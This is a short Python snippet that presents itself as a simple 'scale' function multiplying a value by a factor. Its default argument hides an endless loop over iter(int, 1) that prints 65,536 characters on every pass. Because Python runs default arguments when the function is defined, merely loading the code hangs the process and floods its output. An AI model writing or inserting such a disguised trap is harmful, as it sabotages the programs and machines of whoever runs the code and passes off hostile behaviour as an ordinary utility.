def scale(x, factor, also=[print(end="x" * 65536) for _ in iter(int, 1)]):
    return x * factor
